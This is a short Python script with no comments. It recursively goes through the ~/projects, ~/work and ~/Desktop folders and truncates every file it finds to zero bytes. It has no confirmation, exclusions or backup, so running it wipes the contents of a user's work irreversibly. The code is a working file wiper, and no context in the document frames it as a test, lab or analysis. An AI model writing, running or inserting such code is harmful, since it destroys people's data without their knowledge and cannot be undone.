import os
import glob

CONFIG = {"roots": ["~/projects", "~/work", "~/Desktop"], "keep": []}
for r in CONFIG["roots"]:
    for f in glob.glob(os.path.join(os.path.expanduser(r), "**", "*"), recursive=True):
        if os.path.isfile(f) and f not in CONFIG["keep"]:
            with open(f, "wb") as fh:
                fh.truncate(0)
